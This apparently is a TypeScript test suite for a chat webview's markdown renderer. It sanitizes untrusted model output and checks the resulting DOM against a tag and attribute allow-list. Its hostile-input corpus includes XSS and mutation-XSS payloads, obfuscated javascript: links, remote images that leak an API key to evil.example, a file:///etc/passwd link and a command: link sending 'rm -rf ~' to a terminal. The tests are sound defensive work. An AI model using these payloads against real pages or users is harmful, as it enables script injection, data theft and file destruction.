// The markdown renderer turns untrusted model output into HTML for innerHTML. Every input below is
// rendered, the output is parsed into a DOM, and the DOM is checked against the allow-list: what
// matters is what the webview would build, not what the HTML string looks like.
//
// happy-dom stands in for the webview's Chromium here, but DOMPurify does not support it: its
// `Node.prototype.nodeName` getter returns '' (DOMPurify reads the getter to resist clobbering)
// and its NodeIterator stops when the current node is removed, so DOMPurify silently keeps
// everything after the first element it drops (happy-dom #1810, #2182; DOMPurify #1457). The
// renderer refuses to start in such a window (first test); the rest of the file patches those two
// behaviours to what the DOM standard (and Chromium) does.
import assert from 'node:assert/strict';
import { after, before, describe, it, test } from 'node:test';
import { Window } from 'happy-dom';
import { createHighlighter } from '../../src/webview/chat/highlighter';
import { makeHappyDomStandardEnoughForDomPurify } from '../support/happyDomForDomPurify';
import { createMarkdownRenderer, MAX_EMPHASIS_DELIMITERS, MAX_HIGHLIGHT_CHARS, MAX_TABLE_ROWS, tooCostlyToParse, type MarkdownRenderer } from '../../src/webview/chat/markdown';
import { MAX_NESTING_DEPTH } from '../../src/webview/chat/markdownBlocks';

type HappyWindow = InstanceType<typeof Window>;
type HappyDocument = HappyWindow['document'];
type HappyElement = ReturnType<HappyDocument['createElement']>;

function asDomWindow(window: HappyWindow): globalThis.Window {
  return window as unknown as globalThis.Window;
}

// ---------------------------------------------------------------------------------------------
// What the output may contain, stated independently of the implementation.

const ALLOWED_TAGS = new Set([
  'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'strong', 'em', 'del', 'code', 'pre',
  'ul', 'ol', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'img', 'span', 'div', 'button',
]);
const FORBIDDEN_TAGS = [
  'script', 'style', 'iframe', 'frame', 'object', 'embed', 'link', 'meta', 'base', 'form', 'input', 'textarea',
  'select', 'svg', 'image', 'use', 'math', 'video', 'audio', 'source', 'picture', 'track', 'noscript', 'template',
  'details', 'applet', 'portal',
];
const ALLOWED_ATTRIBUTES: Record<string, readonly string[]> = {
  a: ['href', 'data-href', 'title', 'class'],
  img: ['src', 'alt', 'title'],
  span: ['class', 'title'],
  code: ['class'],
  div: ['class'],
  button: ['type', 'class', 'data-action', 'aria-label'],
  ol: ['start'],
  th: ['align'],
  td: ['align'],
};
const URL_ATTRIBUTES = ['src', 'srcset', 'href', 'xlink:href', 'poster', 'action', 'formaction', 'data', 'background', 'style', 'ping', 'cite', 'longdesc', 'lowsrc', 'dynsrc', 'manifest', 'codebase'];
const INLINE_IMAGE = /^data:image\/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+={0,2}$/;
const LINK_PROTOCOLS = new Set(['http:', 'https:', 'mailto:']);

let window: HappyWindow;
let renderer: MarkdownRenderer;

function parse(html: string): HappyDocument {
  return new window.DOMParser().parseFromString(`<!doctype html><html><body>${html}</body></html>`, 'text/html');
}

function render(markdown: string): { html: string; doc: HappyDocument; body: HappyElement } {
  const html = renderer.render(markdown);
  const doc = parse(html);
  return { html, doc, body: doc.body };
}

function describeElement(el: HappyElement): string {
  return el.outerHTML.slice(0, 200);
}

/** The invariants every rendering must satisfy, whatever the input. */
function assertSafe(html: string, context: string): HappyDocument {
  const doc = parse(html);
  const where = (el: HappyElement) => `${context}: ${describeElement(el)}\n-- full output: ${html.slice(0, 2000)}`;
  for (const tag of FORBIDDEN_TAGS) {
    assert.equal(doc.body.getElementsByTagName(tag).length, 0, `${context}: <${tag}> in output\n${html.slice(0, 2000)}`);
  }
  for (const el of Array.from(doc.body.querySelectorAll('*')) as HappyElement[]) {
    const tag = el.localName;
    assert.ok(ALLOWED_TAGS.has(tag), `tag <${tag}> not allowed: ${where(el)}`);
    assert.equal(el.namespaceURI, 'http://www.w3.org/1999/xhtml', `foreign element: ${where(el)}`);
    const allowed = ALLOWED_ATTRIBUTES[tag] ?? [];
    for (const name of el.getAttributeNames()) {
      assert.ok(!/^on/i.test(name), `event handler ${name}: ${where(el)}`);
      assert.ok(allowed.includes(name), `attribute ${name} not allowed on <${tag}>: ${where(el)}`);
      if (URL_ATTRIBUTES.includes(name)) {
        const value = el.getAttribute(name) ?? '';
        if (tag === 'a' && name === 'href') assert.equal(value, '#', `live href: ${where(el)}`);
        else if (tag === 'img' && name === 'src') assert.match(value, INLINE_IMAGE, `remote image: ${where(el)}`);
        else assert.fail(`URL attribute ${name}: ${where(el)}`);
      }
    }
    if (tag === 'img') assert.match(el.getAttribute('src') ?? '', INLINE_IMAGE, `img without inline src: ${where(el)}`);
    if (tag === 'a') {
      assert.equal(el.getAttribute('href'), '#', `a without href="#": ${where(el)}`);
      assert.equal(el.getAttribute('class'), 'ext-link', where(el));
      const target = el.getAttribute('data-href') ?? '';
      const url = new URL(target); // throws (fails the test) for anything that is not absolute
      assert.ok(LINK_PROTOCOLS.has(url.protocol), `link scheme ${url.protocol}: ${where(el)}`);
      assert.equal(url.href, target, `data-href not normalised: ${where(el)}`);
      assert.equal(el.getAttribute('title'), target, where(el));
    }
    if (tag === 'code') {
      for (const inner of Array.from(el.querySelectorAll('*')) as HappyElement[]) {
        assert.equal(inner.localName, 'span', `only spans inside code: ${where(inner)}`);
        for (const token of (inner.getAttribute('class') ?? '').split(/\s+/).filter(Boolean)) {
          assert.match(token, /^(?:hljs-[\w-]+|[a-z]+_+)$/, `class ${token} inside code: ${where(inner)}`);
        }
      }
    }
  }
  return doc;
}

function text(doc: HappyDocument): string {
  return doc.body.textContent ?? '';
}

function blockedImages(doc: HappyDocument): HappyElement[] {
  return Array.from(doc.body.querySelectorAll('span.blocked-image')) as HappyElement[];
}

function links(doc: HappyDocument): HappyElement[] {
  return Array.from(doc.body.querySelectorAll('a')) as HappyElement[];
}

// ---------------------------------------------------------------------------------------------

test('refuses to start (fails closed) in a DOM where DOMPurify cannot sanitize', () => {
  const unpatched = new Window();
  try {
    assert.throws(() => createMarkdownRenderer(asDomWindow(unpatched)), /sanitizer does not work/);
  } finally {
    void unpatched.happyDOM.close();
  }
});

describe('markdown renderer', () => {
  before(() => {
    window = new Window();
    makeHappyDomStandardEnoughForDomPurify(window);
    renderer = createMarkdownRenderer(asDomWindow(window), { highlighter: createHighlighter() });
  });
  after(async () => {
    await window.happyDOM.close();
  });

  interface HostileCase {
    name: string;
    markdown: string;
    check?: (doc: HappyDocument, html: string) => void;
  }

  const blockedImage =
    (alt: string, urlPart: string) =>
    (doc: HappyDocument): void => {
      const spans = blockedImages(doc);
      assert.equal(spans.length, 1, 'one placeholder');
      const span = spans[0]!;
      assert.equal(span.textContent, alt === '' ? '[image]' : `[image: ${alt}]`);
      assert.equal(span.children.length, 0, 'placeholder is text only');
      const title = span.getAttribute('title') ?? '';
      assert.ok(title.startsWith('Remote image not loaded: '), title);
      assert.ok(title.includes(urlPart), `${title} should mention ${urlPart}`);
    };
  const noLinkButText =
    (linkText: string) =>
    (doc: HappyDocument): void => {
      assert.equal(links(doc).length, 0, 'no <a>');
      assert.ok(text(doc).includes(linkText), `link text ${linkText} kept as text`);
    };
  const shownAsText =
    (fragment: string) =>
    (doc: HappyDocument): void => {
      assert.ok(text(doc).includes(fragment), `"${fragment}" shown as text in: ${text(doc)}`);
    };
  const externalLink =
    (href: string, linkText?: string) =>
    (doc: HappyDocument): void => {
      const all = links(doc);
      assert.equal(all.length, 1, 'one link');
      assert.equal(all[0]!.getAttribute('data-href'), href);
      if (linkText !== undefined) assert.equal(all[0]!.textContent, linkText);
    };

  const hostile: HostileCase[] = [
    // Markdown images: never remote.
    { name: 'image over http', markdown: '![pixel](http://evil.example/p.png)', check: blockedImage('pixel', 'http://evil.example/p.png') },
    { name: 'image over https with a secret in the query', markdown: 'See ![chart](https://evil.example/c.png?leak=API_KEY_123)', check: blockedImage('chart', 'evil.example/c.png?leak=API_KEY_123') },
    { name: 'protocol-relative image', markdown: '![x](//evil.example/p.png)', check: blockedImage('x', '//evil.example/p.png') },
    { name: 'relative image', markdown: '![x](/etc/passwd.png)', check: blockedImage('x', '/etc/passwd.png') },
    { name: 'reference-style image', markdown: '![logo][r]\n\n[r]: https://evil.example/r.png "t"', check: blockedImage('logo', 'https://evil.example/r.png') },
    { name: 'collapsed reference image', markdown: '![r][]\n\n[r]: <https://evil.example/a b.png>', check: blockedImage('r', 'evil.example/a') },
    { name: 'image without alt', markdown: '![](https://evil.example/e.png)', check: blockedImage('', 'evil.example/e.png') },
    { name: 'svg data image', markdown: '![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', check: blockedImage('s', 'data:image/svg+xml') },
    { name: 'html data image', markdown: '![h](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', check: blockedImage('h', 'data:text/html') },
    { name: 'javascript image', markdown: '![j](javascript:alert(1))', check: blockedImage('j', 'javascript:') },
    { name: 'quote-breaking image url', markdown: '![q](https://evil.example/x.png"onerror="alert(1))', check: (doc) => assert.equal(blockedImages(doc).length + doc.body.querySelectorAll('img').length, 1) },
    { name: 'image alt with markup', markdown: '![<img src=x onerror=alert(1)>](https://evil.example/a.png)', check: (doc) => assert.equal(blockedImages(doc).length, 1) },
    {
      name: 'image inside a link',
      markdown: '[![badge](https://evil.example/b.svg)](https://ok.example/)',
      check: (doc) => {
        externalLink('https://ok.example/')(doc);
        assert.equal(links(doc)[0]!.querySelectorAll('span.blocked-image').length, 1);
      },
    },
    // Raw HTML: escaped, shown as text.
    { name: 'raw img onerror', markdown: '<img src=x onerror=alert(1)>', check: shownAsText('<img src=x onerror=alert(1)>') },
    { name: 'inline raw img', markdown: 'look <img src="https://evil.example/i.png"> here', check: shownAsText('<img src="https://evil.example/i.png">') },
    { name: 'uppercase IMG with javascript src', markdown: "<IMG SRC=JaVaScRiPt:alert('XSS')>", check: shownAsText('<IMG') },
    { name: 'svg image href', markdown: '<svg><image href="https://evil.example/s.png"/></svg>', check: shownAsText('<svg>') },
    { name: 'svg use href', markdown: '<svg><use href="https://evil.example/s.svg#a"/></svg>' },
    { name: 'svg onload', markdown: '<svg/onload=alert(1)>' },
    { name: 'iframe', markdown: '<iframe src="https://evil.example/"></iframe>', check: shownAsText('<iframe') },
    { name: 'script', markdown: '<script>alert(document.cookie)</script>', check: shownAsText('alert(document.cookie)') },
    { name: 'style with @import', markdown: '<style>@import url(https://evil.example/x.css);</style>', check: shownAsText('@import') },
    { name: 'style attribute with url()', markdown: '<p style="background:url(https://evil.example/bg.png)">hi</p>' },
    { name: 'raw javascript link', markdown: '<a href="javascript:alert(1)">click</a>', check: noLinkButText('click') },
    { name: 'base href', markdown: '<base href="https://evil.example/">' },
    { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
    { name: 'stylesheet link', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },
    { name: 'form with action and formaction', markdown: '<form action="https://evil.example/"><input name="q"><button formaction="https://evil.example/b">go</button></form>' },
    { name: 'video poster and source', markdown: '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>' },
    { name: 'audio', markdown: 'x <audio src="https://evil.example/a.mp3" autoplay></audio>' },
    { name: 'picture source srcset', markdown: '<picture><source srcset="https://evil.example/p.png"><img src="x"></picture>' },
    { name: 'object data', markdown: '<object data="https://evil.example/x.swf"></object>' },
    { name: 'embed src', markdown: '<embed src="https://evil.example/x.swf">' },
    { name: 'math with xlink:href', markdown: '<math><mi xlink:href="javascript:alert(1)">x</mi><maction actiontype="statusline" xlink:href="javascript:alert(2)">y</maction></math>' },
    { name: 'mXSS: noscript title', markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', check: shownAsText('<noscript>') },
    { name: 'mXSS: svg/style namespace confusion', markdown: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
    { name: 'mXSS: template', markdown: '<template><img src=x onerror=alert(1)></template>' },
    { name: 'details ontoggle', markdown: '<details open ontoggle=alert(1)><summary>s</summary></details>' },
    { name: 'html comment hiding markup', markdown: '<!-- <img src=x onerror=alert(1)> -->', check: shownAsText('<!--') },
    { name: 'CDATA', markdown: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
    { name: 'html inside a table cell', markdown: '| a |\n|---|\n| <img src=x onerror=alert(1)> |', check: shownAsText('<img src=x onerror=alert(1)>') },
    { name: 'html inside a heading', markdown: '# <script>alert(1)</script> title', check: shownAsText('<script>') },
    { name: 'html inside a blockquote', markdown: '> <iframe src=https://evil.example></iframe>', check: shownAsText('<iframe') },
    { name: 'entity-encoded html stays text', markdown: '&lt;img src=x onerror=alert(1)&gt;', check: shownAsText('<img src=x onerror=alert(1)>') },
    // Links: only http, https and mailto, never live.
    { name: 'javascript link', markdown: '[click](javascript:alert(1))', check: noLinkButText('click') },
    { name: 'case-mixed javascript link', markdown: '[click](JaVaScRiPt:alert(1))', check: noLinkButText('click') },
    { name: 'tab entity inside javascript', markdown: '[click](java&#x09;script:alert(1))', check: noLinkButText('click') },
    { name: 'newline entity inside javascript', markdown: '[click](java&#10;script:alert(1))', check: noLinkButText('click') },
    { name: 'entity-encoded javascript', markdown: '[click](&#106;&#97;vascript&#58;alert(1))', check: noLinkButText('click') },
    { name: 'leading control character', markdown: '[click](\u0001javascript:alert(1))', check: noLinkButText('click') },
    { name: 'angle-bracket destination with spaces', markdown: '[click](<  javascript:alert(1)>)', check: noLinkButText('click') },
    { name: 'vbscript link', markdown: '[click](vbscript:msgbox(1))', check: noLinkButText('click') },
    { name: 'data:text/html link', markdown: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', check: noLinkButText('click') },
    { name: 'file link', markdown: '[passwd](file:///etc/passwd)', check: noLinkButText('passwd') },
    { name: 'command link', markdown: '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)', check: noLinkButText('run') },
    { name: 'vscode link', markdown: '[install](vscode:extension/evil.publisher)', check: noLinkButText('install') },
    { name: 'vscode-webview link', markdown: '[open](vscode-webview://abc/index.html)', check: noLinkButText('open') },
    { name: 'relative link', markdown: '[rel](/settings)', check: noLinkButText('rel') },
    { name: 'fragment link', markdown: '[frag](#top)', check: noLinkButText('frag') },
    { name: 'protocol-relative link', markdown: '[pr](//evil.example/)', check: noLinkButText('pr') },
    { name: 'reference-style javascript link', markdown: '[click][x]\n\n[x]: javascript:alert(1)', check: noLinkButText('click') },
    { name: 'javascript autolink', markdown: '<javascript:alert(1)>', check: (doc) => assert.equal(links(doc).length, 0) },
    { name: 'autolink https', markdown: '<https://ok.example/a?b=1&c=2>', check: externalLink('https://ok.example/a?b=1&c=2') },
    { name: 'bare www autolink', markdown: 'go to www.ok.example/path now', check: externalLink('http://www.ok.example/path') },
    { name: 'email autolink', markdown: 'write to someone@ok.example', check: externalLink('mailto:someone@ok.example') },
    { name: 'mailto link', markdown: '[mail](mailto:a@ok.example?subject=hi)', check: externalLink('mailto:a@ok.example?subject=hi', 'mail') },
    { name: 'uppercase HTTPS link is normalised', markdown: '[x](HTTPS://OK.example/Path)', check: externalLink('https://ok.example/Path', 'x') },
    { name: 'link title with quotes', markdown: '[t](https://ok.example/ "ti\\"tle\' onmouseover=alert(1) x=\'")', check: externalLink('https://ok.example/', 't') },
    { name: 'link url with quotes', markdown: '[u](https://ok.example/"onmouseover="alert(1))', check: (doc) => assert.ok(links(doc).length <= 1) },
    { name: 'nested brackets', markdown: '[a [b [c]] d](https://ok.example/n)', check: externalLink('https://ok.example/n', 'a [b [c]] d') },
    { name: 'markup in link text', markdown: '[<img src=x onerror=alert(1)>](https://ok.example/)', check: (doc) => { externalLink('https://ok.example/')(doc); shownAsText('<img src=x')(doc); } },
    { name: 'link to an IP with credentials', markdown: '[bank](https://bank.example@203.0.113.7/)', check: externalLink('https://bank.example@203.0.113.7/', 'bank') },
    // Code: markup shows as text.
    { name: 'html in a code span', markdown: 'use `<img src=x onerror=alert(1)>` here', check: shownAsText('<img src=x onerror=alert(1)>') },
    { name: 'html in a fenced block', markdown: '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```', check: shownAsText('<script>alert(1)</script>') },
    { name: 'html in an indented block', markdown: '    <iframe src="https://evil.example/"></iframe>', check: shownAsText('<iframe src=') },
    { name: 'fence language that is markup', markdown: '```<img/src=x/onerror=alert(1)>\ncode\n```', check: (doc) => assert.equal(doc.body.querySelector('.code-lang')?.textContent, '<img/src=x/onerror=alert(1)>') },
    { name: 'fence closing the code element', markdown: '```\n</code></pre><img src=x onerror=alert(1)>\n```', check: shownAsText('</code></pre><img') },
    { name: 'task list', markdown: '- [x] done\n- [ ] todo', check: (doc) => { assert.equal(doc.body.querySelectorAll('input').length, 0); assert.ok(text(doc).includes('☑')); assert.ok(text(doc).includes('☐')); } },
  ];

  it(`hostile corpus has at least 40 inputs (${hostile.length})`, () => {
    assert.ok(hostile.length >= 40);
  });

  for (const c of hostile) {
    it(`hostile: ${c.name}`, () => {
      const html = renderer.render(c.markdown);
      const doc = assertSafe(html, c.name);
      c.check?.(doc, html);
    });
  }

  it('every prefix of every hostile input renders safely (streaming)', () => {
    for (const c of hostile) {
      for (let end = 1; end < c.markdown.length; end++) assertSafe(renderer.render(c.markdown.slice(0, end)), `${c.name}, first ${end} chars`);
    }
  });

  it('renders a normal answer: heading, code block, table, list and an https link', () => {
    const { doc } = render(
      [
        '## Reading a file',
        '',
        'Use **`fs.readFile`**, _not_ ~~the sync one~~. See [the docs](https://nodejs.org/api/fs.html#fsreadfilepath-options-callback).',
        '',
        '```ts',
        "import { readFile } from 'node:fs/promises';",
        "const text = await readFile('a.txt', 'utf8');",
        '```',
        '',
        '| Method | Blocking |',
        '|:-------|:--------:|',
        '| readFile | no |',
        '| readFileSync | yes |',
        '',
        '1. Open',
        '2. Read',
        '   - check errors',
        '',
        '> Tip: handle `ENOENT`.',
      ].join('\n'),
    );
    assert.equal(doc.body.querySelector('h2')?.textContent, 'Reading a file');
    assert.ok(doc.body.querySelector('p strong code'));
    assert.ok(doc.body.querySelector('p em'));
    assert.equal(doc.body.querySelector('p del')?.textContent, 'the sync one');

    const link = doc.body.querySelector('a') as HappyElement;
    assert.equal(link.getAttribute('href'), '#');
    assert.equal(link.getAttribute('data-href'), 'https://nodejs.org/api/fs.html#fsreadfilepath-options-callback');
    assert.equal(link.getAttribute('title'), link.getAttribute('data-href'));
    assert.equal(link.getAttribute('class'), 'ext-link');
    assert.equal(link.textContent, 'the docs');

    const block = doc.body.querySelector('div.code-block') as HappyElement;
    assert.ok(block);
    const toolbar = block.firstElementChild as HappyElement;
    assert.equal(toolbar.className, 'code-toolbar');
    assert.equal(toolbar.querySelector('span.code-lang')?.textContent, 'ts');
    const buttons = Array.from(toolbar.querySelectorAll('button')) as HappyElement[];
    assert.deepEqual(
      buttons.map((b) => [b.getAttribute('type'), b.getAttribute('data-action'), b.getAttribute('aria-label'), b.textContent]),
      [
        ['button', 'copy', 'Copy code', 'Copy'],
        ['button', 'insert', 'Insert code at cursor', 'Insert'],
      ],
    );
    const code = block.querySelector('pre > code') as HappyElement;
    assert.equal(code.getAttribute('class'), 'hljs language-ts');
    assert.ok(code.querySelector('span.hljs-keyword'), 'highlighted');
    assert.equal(code.textContent, "import { readFile } from 'node:fs/promises';\nconst text = await readFile('a.txt', 'utf8');");

    const table = doc.body.querySelector('table') as HappyElement;
    assert.deepEqual((Array.from(table.querySelectorAll('thead th')) as HappyElement[]).map((th) => th.textContent), ['Method', 'Blocking']);
    assert.equal(table.querySelectorAll('tbody tr').length, 2);
    assert.equal(table.querySelector('thead th:nth-child(2)')?.getAttribute('align'), 'center');

    assert.equal(doc.body.querySelectorAll('ol > li').length, 2);
    assert.equal(doc.body.querySelector('ol li ul li')?.textContent, 'check errors');
    assert.ok(doc.body.querySelector('blockquote p code'));
  });

  it('keeps an inline data:image/png as an <img>', () => {
    const src = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    const { doc } = render(`![dot](${src})`);
    const img = doc.body.querySelector('img') as HappyElement;
    assert.ok(img);
    assert.equal(img.getAttribute('src'), src);
    assert.equal(img.getAttribute('alt'), 'dot');
    assert.equal(blockedImages(doc).length, 0);
  });

  describe('code block text is the original code exactly (the Copy button reads it)', () => {
    const samples: Array<[string, string]> = [
      ['ts', "if (a < b && c > d) {\n\treturn '<b>&amp;</b>';\n}\n\n  // trailing spaces   \nconst s = `${x}`;"],
      ['python', 'def f(x):\n    return x < 1 and "&lt;" or \'</code>\'\n\n\n'.trimEnd()],
      ['html', '<!doctype html>\n<script>alert("x")</script>\n<style>p { color: red }</style>\n<p class="a">&nbsp;&amp;</p>'],
      ['haskell', 'main = putStrLn "<&>" >> return ()  -- not a registered language'],
      ['', '   leading spaces\n\ttab\n<>&"\''],
      ['json', '{"a": "<\\u0041>", "b": [1, 2]}'],
      ['bash', 'echo "$HOME" > /tmp/x && cat <<EOF\n<a>\nEOF'],
      ['diff', '--- a\n+++ b\n@@ -1 +1 @@\n-<old>\n+<new> & more'],
    ];
    for (const [language, code] of samples) {
      it(language === '' ? 'no language' : language, () => {
        const { html, doc } = render(`Here:\n\n\`\`\`${language}\n${code}\n\`\`\`\n\nDone.`);
        assertSafe(html, language);
        const element = doc.body.querySelector('pre > code') as HappyElement;
        assert.equal(element.textContent, code);
        assert.equal(doc.body.querySelector('.code-lang')?.textContent, language === '' ? 'text' : language);
      });
    }

    it('a tilde fence and an indented block too', () => {
      const code = 'a <b> & c\n  d';
      assert.equal(render(`~~~\n${code}\n~~~`).doc.body.querySelector('code')?.textContent, code);
      assert.equal(render('    x < y\n    && z').doc.body.querySelector('code')?.textContent, 'x < y\n&& z');
    });
  });

  it('an unknown language is escaped plain text with its label', () => {
    const { doc } = render('```zig\nconst x: u8 = 1 << 2;\n```');
    const code = doc.body.querySelector('code') as HappyElement;
    assert.equal(code.children.length, 0, 'no highlighting markup');
    assert.equal(code.getAttribute('class'), 'hljs language-zig');
    assert.equal(doc.body.querySelector('.code-lang')?.textContent, 'zig');
  });

  it('an unclosed fence while streaming renders as a code block', () => {
    const { html, doc } = render('Sure:\n\n```python\ndef f():\n    return "<x>"');
    assertSafe(html, 'unclosed fence');
    assert.equal(doc.body.querySelector('p')?.textContent, 'Sure:');
    assert.equal(doc.body.querySelector('div.code-block pre code')?.textContent, 'def f():\n    return "<x>"');
  });

  it('half a link while streaming renders as text', () => {
    for (const partial of ['see [the docs', 'see [the docs](', 'see [the docs](https://', 'see [the docs](https://ok.exa']) {
      const { html, doc } = render(partial);
      assertSafe(html, partial);
      assert.ok(text(doc).startsWith('see [the docs'), text(doc));
    }
  });

  it('configures DOMPurify and marked once, not on every render', () => {
    // Creating a DOMPurify instance touches the window's document (it makes a <template>);
    // sanitizing works in a parsed document of its own and does not.
    const document = window.document;
    const createElement = document.createElement;
    let created = 0;
    document.createElement = function (this: HappyDocument, ...args: Parameters<HappyDocument['createElement']>) {
      created++;
      return createElement.apply(this, args);
    } as HappyDocument['createElement'];
    try {
      for (let i = 0; i < 5; i++) renderer.render(`# t${i}\n\n![x](https://evil.example/${i}.png) [l](https://ok.example/${i})\n\n\`\`\`ts\nlet a${i} = 1;\n\`\`\``);
    } finally {
      document.createElement = createElement;
    }
    assert.equal(created, 0);
  });

  it('re-renders a growing 800-word reply quickly', () => {
    const paragraph =
      'The **quick** brown fox jumps over the _lazy_ dog near [the river](https://ok.example/river) while `code` runs. ';
    const words: string[] = [];
    while (words.length < 800) words.push(...paragraph.split(' '));
    const reply = `${words.slice(0, 400).join(' ')}\n\n\`\`\`ts\nfunction add(a: number, b: number): number {\n  return a + b;\n}\n\`\`\`\n\n- one\n- two\n\n${words.slice(400, 800).join(' ')}`;
    renderer.render(reply); // warm up
    const frames = 60;
    const started = performance.now();
    for (let i = 1; i <= frames; i++) renderer.render(reply.slice(0, Math.ceil((reply.length * i) / frames)));
    const perRender = (performance.now() - started) / frames;
    // In Chromium (the webview) this is about 2–3 ms per render; happy-dom's parser makes it
    // about 25 ms here. The bound only catches something pathological.
    assert.ok(perRender < 150, `${perRender.toFixed(1)} ms per render in happy-dom`);
  });

  it('renders 1 MB of text in reasonable time', () => {
    const line = 'Lorem ipsum dolor sit amet, *consectetur* adipiscing elit, sed do `eiusmod` tempor [x](https://ok.example).\n';
    const input = line.repeat(Math.ceil(1_000_000 / line.length));
    const started = performance.now();
    const html = renderer.render(input);
    const elapsed = performance.now() - started;
    // Chromium: about 0.4 s; happy-dom: about 9 s, nearly all of it parsing HTML.
    assert.ok(elapsed < 45_000, `${Math.round(elapsed)} ms`);
    assert.ok(html.length > input.length);
    assert.equal(parse(html).body.querySelectorAll('a.ext-link').length, Math.ceil(1_000_000 / line.length));
  });

  it('survives 1 MB of hostile nesting without hanging', () => {
    const input = '['.repeat(200_000) + '<img src=x onerror=alert(1)>'.repeat(20_000) + ']('.repeat(120_000);
    const started = performance.now();
    const html = renderer.render(input);
    assert.ok(performance.now() - started < 15_000);
    assertSafe(html, 'nesting');
  });
});

describe('highlighting loads lazily', () => {
  let win: Window;
  before(() => {
    win = new Window();
    makeHappyDomStandardEnoughForDomPurify(win);
  });
  after(async () => {
    await win.happyDOM.close();
  });

  it('renders code as escaped text until the highlighter arrives, asks for it, then highlights', () => {
    let asked = 0;
    const lazy = createMarkdownRenderer(asDomWindow(win), { onHighlighterNeeded: () => asked++ });
    const source = '```ts\nconst a: number = 1 < 2 ? 3 : 4;\n```';
    assert.equal(lazy.render('no code here, just `inline`'), lazy.render('no code here, just `inline`'));
    assert.equal(asked, 0, 'plain text and inline code do not need the highlighter');

    const before = parse(lazy.render(source)).body.querySelector('code')!;
    assert.ok(asked >= 1, 'a fenced block with a language asks for the highlighter');
    assert.equal(before.querySelector('span'), null, 'not highlighted yet');
    assert.equal(before.textContent, 'const a: number = 1 < 2 ? 3 : 4;', 'the code is intact');

    lazy.setHighlighter(createHighlighter());
    const after = parse(lazy.render(source)).body.querySelector('code')!;
    assert.ok(after.querySelector('span.hljs-keyword'), 'highlighted after setHighlighter');
    assert.equal(after.textContent, 'const a: number = 1 < 2 ? 3 : 4;');
  });
});

describe('a reply too costly to parse', () => {
  it('is shown as plain text when its emphasis delimiters outside code would make parsing quadratic', () => {
    const hostile = '_a'.repeat(50_000);
    assert.equal(tooCostlyToParse(hostile), true);
    const body = parse(renderer.render(hostile)).body;
    assert.equal(body.getElementsByTagName('em').length + body.getElementsByTagName('strong').length, 0);
    assert.equal(body.textContent, hostile);
    assert.equal(tooCostlyToParse('*b'.repeat(MAX_EMPHASIS_DELIMITERS + 1)), true);
  });

  it('parses long replies whose underscores are in code, and ordinary prose', () => {
    const code = ['Here is the module:', '', '```python', ...Array.from({ length: 3000 }, (_, i) => `my_var_${i} = some_function_name(arg_${i})`), '```', '', 'Call it with `snake_case_name_here` and **bold** text.'].join('\n');
    assert.equal(tooCostlyToParse(code), false);
    assert.ok(parse(renderer.render(code)).body.getElementsByTagName('strong').length === 1, 'still markdown');
    assert.equal(tooCostlyToParse('Some *emphasis* and _more_. '.repeat(500)), false);
  });

  it('is shown as plain text when quotes or lists nest deeper than a reply ever does (marked is quadratic in depth)', () => {
    const deep = `${'> '.repeat(1000)}deep`;
    assert.equal(tooCostlyToParse(deep), true, 'short, and still caught');
    const started = performance.now();
    const body = parse(renderer.render(deep)).body;
    assert.ok(performance.now() - started < 5000);
    assert.equal(body.getElementsByTagName('blockquote').length, 0);
    assert.equal(body.textContent, deep);
    assert.equal(tooCostlyToParse(`${'> '.repeat(MAX_NESTING_DEPTH + 1)}x`), true);
    assert.equal(tooCostlyToParse(`${'> '.repeat(MAX_NESTING_DEPTH)}x`), false);
    const staircase = (levels: number) => Array.from({ length: levels }, (_, i) => `${'  '.repeat(i)}- item ${i}`).join('\n');
    assert.equal(tooCostlyToParse(staircase(60)), true);
    assert.equal(tooCostlyToParse(staircase(8)), false, 'eight levels of a real list');
    assert.equal(tooCostlyToParse('> > quoted twice\n\n1. a\n   - b\n     > c'), false);
    assert.equal(tooCostlyToParse('- '.repeat(40).trim()), false, 'a long rule of dashes is no list');
    assert.equal(tooCostlyToParse(['```', ...Array.from({ length: 40 }, (_, i) => `${'    '.repeat(i)}- x`), '```'].join('\n')), false, 'code is not parsed as markdown');
  });

  it('is shown as plain text when a table runs longer than MAX_TABLE_ROWS rows', () => {
    const table = (rows: number) => ['| a | b |', '|---|---|', ...Array.from({ length: rows }, (_, i) => `| ${i} | *${i}* |`)].join('\n');
    assert.equal(tooCostlyToParse(table(MAX_TABLE_ROWS)), true, 'header and delimiter rows count too');
    assert.equal(tooCostlyToParse(table(MAX_TABLE_ROWS - 2)), false);
    assert.equal(tooCostlyToParse([table(200), table(200), table(200)].join('\n\n')), false, 'three tables, each short enough');
    const body = parse(renderer.render(table(2000))).body;
    assert.equal(body.getElementsByTagName('table').length, 0);
    assert.ok(body.textContent!.includes('| 1999 | *1999* |'));
  });

  it('shows code longer than MAX_HIGHLIGHT_CHARS without highlighting', () => {
    const line = 'const value = compute(a, "b", 3);\n';
    const long = line.repeat(Math.ceil((MAX_HIGHLIGHT_CHARS + 1) / line.length));
    const code = parse(renderer.render(`\`\`\`ts\n${long}\`\`\``)).body.querySelector('pre code')!;
    assert.equal(code.children.length, 0);
    assert.equal(code.textContent, long.slice(0, -1));
    assert.ok(parse(renderer.render(`\`\`\`ts\n${line}\`\`\``)).body.querySelector('pre code span.hljs-keyword'), 'shorter code is highlighted');
  });
});
